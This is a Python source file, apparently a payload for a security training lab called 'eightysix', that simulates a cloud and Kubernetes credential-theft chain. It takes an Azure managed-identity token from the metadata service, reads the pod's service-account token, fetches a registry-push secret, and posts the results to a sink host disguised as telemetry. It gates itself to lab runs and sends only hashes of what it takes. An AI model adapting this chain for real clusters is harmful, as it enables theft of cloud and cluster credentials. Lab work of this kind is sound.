"""A payload of the eightysix lab. It is harmless: it knows no address but those of a lab run, and the credentials that it
takes there open nothing. OUTSIDE OF A LAB RUN IT REFUSES TO ACT: it prints one line that says why, and returns.

A lab run is told by three things that must agree: a nonce in the environment, the same nonce beside the inode of this
network namespace in a marker file, and the same nonce from the lab's own metadata service. docs/scenarios.md tells more.
"""

import hashlib
import json
import os
import ssl
import time
import urllib.request

METADATA = "http://169.254.169.254"
ELSEWHERE = "http://169.254.86.86"
TOKEN_PATH = (
    "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
)
FOLDER = "/var/run/secrets/kubernetes.io/serviceaccount"
API = "https://kubernetes.default.svc"
SINK = "http://telemetry.perf-utils.example/v1/collect"
MARKER = "/etc/eightysix-lab"
DONE = "/tmp/.tpu_done"
PARTS = {"metadata": 0.44, "token": 0.67, "secrets": 0.68, "secret": 0.78, "leave": 1.0}


def marked():
    """Why this is no lab run, as far as that can be told without a connection; empty where it may be one."""
    nonce = os.environ.get("EIGHTYSIX_LAB_NONCE", "")
    if not nonce:
        return "EIGHTYSIX_LAB_NONCE is not set"
    marker = os.environ.get("EIGHTYSIX_LAB_MARKER") or MARKER
    try:
        with open(marker) as file:
            lines = file.read(4096).split()
        inode = str(os.stat("/proc/self/ns/net").st_ino)
    except (OSError, ValueError) as error:
        return "the marker %s cannot be read: %s" % (marker, error)
    if lines[:1] != [nonce]:
        return "the marker %s is of another run" % marker
    if lines[1:] != [inode]:
        return "the marker %s names another network namespace" % marker
    return ""


def refusal(asking):
    """Why this is no lab run; empty where it is one. `asking` makes the connection, as it makes those of the payload."""
    why = marked()
    if why:
        return why
    try:
        told = nonce_of(METADATA, asking)
    except (OSError, ValueError) as error:
        if not forbidden(error):
            return "the metadata service tells no nonce: %s" % error
        try:  # a run in which this pod may not reach it tells the nonce at an address of the lab's own
            told = nonce_of(ELSEWHERE, asking)
        except (OSError, ValueError) as error:
            return "the metadata service is forbidden, and nobody else tells a nonce: %s" % error
    if told != os.environ["EIGHTYSIX_LAB_NONCE"]:
        return "the metadata service tells another nonce"
    return ""


def nonce_of(place, asking):
    """What is told there."""
    return asking(place + "/eightysix-lab/nonce").decode("ascii", "replace").strip()


def forbidden(error):
    """Whether this machine forbade a connection, which is not the same as nobody being there."""
    return getattr(getattr(error, "reason", error), "errno", None) in (1, 13)


def refuses(why):
    """Whether there is a reason to refuse, which is then told in one line."""
    if why:
        print("eightysix lab payload: refused, nothing done:", why, flush=True)
    return bool(why)


def first():
    """Whether no other process or thread of this container was here before."""
    try:
        os.close(os.open(DONE, os.O_CREAT | os.O_EXCL, 0o600))
    except OSError:
        return False
    return True


def until(part, landed):
    """Wait for a step's time: EIGHTYSIX_LAB_PACE seconds lie between the landing of this file and the last step."""
    pace = float(os.environ.get("EIGHTYSIX_LAB_PACE") or 0)
    time.sleep(max(0.0, landed + pace * PARTS[part] - time.time()))


def landed_at():
    """When this file came to lie here, or now where it came another way."""
    try:
        return os.stat(__file__).st_ctime
    except (NameError, OSError):
        return time.time()


def ask(url, headers=None, body=None):
    """Ask and return the answer's body, past no proxy; the API server's certificate is checked against the pod's own CA."""
    context = None
    if url.startswith("https:"):
        context = ssl.create_default_context(cafile=FOLDER + "/ca.crt" if url.startswith(API) else None)
    handlers = (urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    request = urllib.request.Request(url, data=body, headers=headers or {})
    with urllib.request.build_opener(*handlers).open(request, timeout=10) as answer:
        return answer.read(1 << 20)


def managed_identity(asking=ask):
    """A token of the pod's managed identity."""
    return json.loads(asking(METADATA + TOKEN_PATH, {"Metadata": "true"}))["access_token"]


def read(name):
    """A file of the service account."""
    with open(FOLDER + "/" + name) as file:
        return file.read(65536)


def send(loot, asking=ask):
    """Send what was taken to the sink: as long as it is, and told by its fingerprint alone."""
    parts = [
        {"name": name, "sha256": hashlib.sha256(text.encode()).hexdigest(), "body": "x" * len(text)}
        for name, text in loot
    ]
    body = json.dumps({"host": os.uname().nodename, "identities": parts}).encode()
    asking(SINK, {"Content-Type": "application/json"}, body)


def go(asking=ask, take=managed_identity, leave=send):
    """The whole story: two credentials of the pod, the secrets that one of them may read, and out."""
    if refuses(marked()) or os.path.exists(DONE):
        return
    landed = landed_at()
    until("metadata", landed)
    if refuses(refusal(asking)) or not first():
        return
    loot = []
    try:
        loot.append(("managed identity", take(asking)))
    except OSError:
        pass  # denied: the pod holds another identity
    until("token", landed)
    account, namespace = read("token").strip(), read("namespace").strip()
    loot.append(("service account", account))
    headers = {"Authorization": "Bearer " + account}
    secrets = "%s/api/v1/namespaces/%s/secrets" % (API, namespace)
    until("secrets", landed)
    asking(secrets, headers)
    until("secret", landed)
    loot.append(("acr-push-sp", json.dumps(json.loads(asking(secrets + "/acr-push-sp", headers))["data"])))
    until("leave", landed)
    leave(loot, asking)
